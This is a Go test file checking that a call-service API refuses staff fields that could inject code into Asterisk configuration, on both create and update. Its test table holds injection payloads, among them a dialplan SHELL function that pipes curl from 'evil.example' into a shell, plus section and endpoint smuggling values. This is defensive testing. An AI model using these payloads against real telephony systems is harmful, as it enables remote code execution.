package api_test

import (
	"context"
	"net/http"
	"testing"

	"callsvc/api"
	"callsvc/api/apitest"
	"callsvc/api/record"
	"callsvc/dialplan"
)

// TestStaffTheRendererWouldRefuseIsRefused (issue 11, high 3): every staff
// field is checked when it enters the API with the renderer's own rules, so
// nothing stored can reach Asterisk's configuration as code. A refused
// create stores nothing; a refused update leaves the entry as it was; what
// is stored renders.
func TestStaffTheRendererWouldRefuseIsRefused(t *testing.T) {
	t.Parallel()
	srv := apitest.New(t)
	good := api.StaffInput{Name: "王芳", Extension: "2001", Endpoint: "PJSIP/2001", Department: "desk", Role: record.RoleAgent}
	r := srv.Do(t, http.MethodPost, "/v1/staff", record.RoleSupervisor, good)
	if r.Status != http.StatusCreated {
		t.Fatalf("create: %d %s", r.Status, r.Body)
	}
	var stored record.Staff
	r.Decode(t, &stored)

	for name, mod := range map[string]func(*api.StaffInput){
		"ShellInName":         func(s *api.StaffInput) { s.Name = "${SHELL(curl evil.example|sh)}" },
		"ExpressionInName":    func(s *api.StaffInput) { s.Name = "$[1+1]" },
		"SectionInName":       func(s *api.StaffInput) { s.Name = "Eve\n[evil]" },
		"SemicolonInName":     func(s *api.StaffInput) { s.Name = "Eve;x" },
		"QuoteInName":         func(s *api.StaffInput) { s.Name = `Eve" <666>` },
		"BackslashInName":     func(s *api.StaffInput) { s.Name = `Eve\` },
		"BidiInName":          func(s *api.StaffInput) { s.Name = "Eve\u202e" },
		"ShellInDepartment":   func(s *api.StaffInput) { s.Department = "${SHELL(id)}" },
		"BraceInSkill":        func(s *api.StaffInput) { s.Skills = []string{"{x}"} },
		"ChanSIP":             func(s *api.StaffInput) { s.Endpoint = "SIP/2001" },
		"UnknownTech":         func(s *api.StaffInput) { s.Endpoint = "IAX2/2001" },
		"SemicolonInEndpoint": func(s *api.StaffInput) { s.Endpoint = "PJSIP/2001;x" },
		"AtInPJSIPName":       func(s *api.StaffInput) { s.Endpoint = "PJSIP/2001@evil" },
		"LocalWithComma":      func(s *api.StaffInput) { s.Endpoint = "Local/2001@ctx,1" },
		"HashInExtension":     func(s *api.StaffInput) { s.Extension = "2001#" },
	} {
		t.Run(name, func(t *testing.T) {
			in := good
			in.Extension, in.Endpoint = "2002", "PJSIP/2002"
			mod(&in)
			if r := srv.Do(t, http.MethodPost, "/v1/staff", record.RoleSupervisor, in); r.Status != http.StatusBadRequest || r.ErrorCode() != record.EInvalid {
				t.Errorf("create: %d %s, want 400", r.Status, r.Body)
			}
			in.Extension, in.Endpoint = good.Extension, good.Endpoint
			mod(&in)
			if r := srv.Do(t, http.MethodPut, "/v1/staff/"+stored.ID, record.RoleSupervisor, in); r.Status != http.StatusBadRequest {
				t.Errorf("update: %d %s, want 400", r.Status, r.Body)
			}
		})
	}

	staff, _, err := srv.Store.ListStaff(context.Background(), record.ListQuery{Limit: 100})
	if err != nil {
		t.Fatal(err)
	}
	if len(staff) != 2 { // the harness's agent and 王芳
		t.Fatalf("directory holds %d entries, want 2: %+v", len(staff), staff)
	}
	for _, s := range staff {
		if s.ID == stored.ID && (s.Name != good.Name || s.Endpoint != good.Endpoint) {
			t.Fatalf("a refused update changed the entry: %+v", s)
		}
	}
	phones, err := dialplan.Phones(staff, dialplan.PlaceholderSecrets)
	if err != nil {
		t.Fatalf("the stored directory does not render: %v", err)
	}
	if _, err := dialplan.Render(dialplan.Settings{ARIPassword: "x", PhoneSecret: dialplan.PlaceholderSecrets}, phones); err != nil {
		t.Fatalf("render: %v", err)
	}
}
